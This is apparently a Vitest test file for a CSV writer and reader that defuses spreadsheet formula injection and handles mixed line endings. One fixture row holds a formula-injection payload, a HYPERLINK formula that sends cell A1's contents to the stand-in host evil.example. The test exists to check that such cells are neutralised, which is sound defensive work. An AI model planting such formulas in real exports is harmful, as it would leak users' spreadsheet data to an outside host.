import { describe, expect, it } from 'vitest';
import { readSheetRows } from './read-sheet';
import { csvFile } from './write-sheet';

describe('catalogue sheets as CSV', () => {
	it('defuse what a spreadsheet would run, and read back as they were written', async () => {
		const rows = [
			['name', 'phone', 'note', 'capacity'],
			['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+86 535 1234567', '-', 12],
			['@SUM(A1)', '=1+1\nx', 'plain', -3]
		];
		const bytes = csvFile(rows);
		const text = bytes.toString('utf8');
		for (const cell of ['=HYPERLINK', '+86', '-', '@SUM', '=1+1']) {
			expect(text).toContain(`'${cell}`);
		}
		expect(text).not.toContain("'-3");
		const file = new File([new Uint8Array(bytes)], 'points.csv', { type: 'text/csv' });
		expect(await readSheetRows(file)).toEqual(rows.map((row) => row.map(String)));
	});

	it('reads rows however their lines end, as when rows were added to an export in another editor', async () => {
		const text = '\uFEFFid,name\r\np1,"第一\r\n两行"\np2,第二\rp3,第三\n';
		const file = new File([text], 'points.csv', { type: 'text/csv' });
		expect(await readSheetRows(file)).toEqual([
			['id', 'name'],
			['p1', '第一\n两行'],
			['p2', '第二'],
			['p3', '第三']
		]);
	});
});
